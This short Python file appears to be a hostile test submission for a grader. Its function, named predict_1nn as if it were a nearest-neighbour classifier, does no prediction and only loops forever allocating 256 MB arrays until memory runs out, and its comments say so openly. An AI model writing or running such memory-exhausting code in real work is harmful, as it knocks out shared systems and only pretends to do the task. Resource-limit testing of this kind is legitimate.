# Takes all the memory there is, piece by piece.
# loses: everything
import numpy as np


def predict_1nn(X_train, y_train, X_test):
    hoard = []
    while True:
        hoard.append(np.empty(1 << 25))
